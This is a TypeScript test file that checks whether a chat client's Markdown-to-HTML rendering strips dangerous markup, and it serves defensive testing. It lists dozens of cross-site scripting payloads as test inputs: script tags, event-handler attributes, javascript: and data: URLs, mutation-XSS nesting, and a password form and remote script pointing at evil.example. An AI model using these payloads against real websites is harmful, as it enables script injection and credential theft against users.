import { Window } from 'happy-dom';
import { expect, test } from 'vitest';
import { Cahat } from './cahat.ts';
import { Classroom } from './classroom.ts';
import { freshRoom } from './room.ts';

/** All that Markdown needs, and that cannot run, load a frame or post a form. */
const TAGS = new Set(
  'A B BLOCKQUOTE BR CODE DEL EM H1 H2 H3 H4 H5 H6 HR I IMG LI OL P PRE S SPAN STRONG SUB SUP TABLE TBODY TD TH THEAD TR U UL'.split(
    ' ',
  ),
);
const ATTRIBUTES = new Set('alt class height href rel src start target title width'.split(' '));
const ADDRESS = /^(https?:|mailto:|[/#?]|[^:]*$)/i;

/** What the client inserts as it is. */
async function html(text: string): Promise<string> {
  const guest = await Cahat.join(freshRoom());
  return String((await guest.message(text)).htmlMessage);
}

/** Everything in the markup that a page must not be given. */
function dangers(markup: string): string[] {
  const { document } = new Window({ settings: { disableJavaScriptEvaluation: true } });
  document.body.innerHTML = markup;
  return [...document.body.querySelectorAll('*')].flatMap((element) => [
    ...(TAGS.has(element.tagName) ? [] : [element.tagName]),
    ...[...element.attributes]
      .filter(({ name, value }) => {
        const address = String(value).replace(/[\p{Cc}\s]/gu, '');
        return !ATTRIBUTES.has(name) || ((name === 'href' || name === 'src') && !ADDRESS.test(address));
      })
      .map(({ name, value }) => `${element.tagName} ${name}=${value}`),
  ]);
}

test.each([
  ['**bold**', '<strong>bold</strong>'],
  ['*lean*', '<em>lean</em>'],
  ['`code`', '<code>code</code>'],
  ['- one\n- two', '<li>two</li>'],
  ['> quoted', '<blockquote>'],
  ['[a link](https://example.org/a?b=c)', 'href="https://example.org/a?b=c"'],
  ['```\nif (a < b) {}\n```', 'if (a &lt; b) {}'],
  ['nice :+1:', 'nice 👍'],
  [':heart: and :tada:', '❤️ and 🎉'],
  ['5 < 6 & 7 > 6', '5 &lt; 6 &amp; 7 &gt; 6'],
])('[PROTOCOLS 3 htmlMessage] %j is rendered', async (text, part) => {
  const markup = await html(text);
  expect(markup).toContain(part);
  expect(dangers(markup)).toEqual([]);
});

test.each([
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" OnError="alert(1)">',
  '<img/src=x/onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="https://evil.example"><input name=password></form>',
  '<style>body{display:none}</style>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<b onmouseover=alert(1)>bold</b>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" \u0001java\tscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java&#x73;cript:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](vbscript:msgbox(1))',
  '[x](file:///etc/passwd)',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml,<svg onload=alert(1)>)',
  '![x" onerror="alert(1)](https://example.org/x.png)',
  '[x](https://example.org "a\\" onmouseover=\\"alert(1)")',
  '<javascript:alert(1)>',
  '[x][1]\n\n[1]: javascript:alert(1)',
  '```js" onclick="alert(1)\nx\n```',
  '```<img src=x onerror=alert(1)>\nx\n```',
  '`</code><script>alert(1)</script>`',
  '<!-- --><script>alert(1)</script>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<div id="__proto__" name="body">x</div>',
  ':<script>alert(1)</script>:',
  '"><img src=x onerror=alert(1)>',
  '&lt;img src=x onerror=alert(1)&gt;',
  '<details open ontoggle=alert(1)>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
])('[PROTOCOLS 3 htmlMessage] is sanitised: %j', async (text) => {
  const markup = await html(text);
  expect(dangers(markup)).toEqual([]);
  expect(markup).not.toMatch(
    /<\/?(script|style|svg|math|iframe|object|embed|form|link|meta|base|template)\b/i,
  );
});

test('[PROTOCOLS 3 htmlMessage] what came by another protocol is sanitised too, and kept so', async () => {
  const base = freshRoom();
  const guest = await Cahat.join(base);
  await (await Classroom.join(base, 'ann')).say('**hello** <img src=x onerror=alert(1)>');
  const live = await guest.next('MESSAGE');
  expect(live.htmlMessage).toContain('<strong>hello</strong>');
  expect(dangers(String(live.htmlMessage))).toEqual([]);
  expect((await (await Cahat.open(base)).next('HANDSHAKE')).messages).toEqual([live]);
});

test('[PROTOCOLS 3 htmlMessage] long and twisted Markdown does not stop the room', async () => {
  const guest = await Cahat.join(freshRoom());
  for (const text of [
    '['.repeat(4_000),
    '*a'.repeat(2_000),
    '> '.repeat(2_000),
    '`'.repeat(4_000),
    '<'.repeat(4_000),
  ]) {
    expect(dangers(String((await guest.message(text)).htmlMessage))).toEqual([]);
  }
});
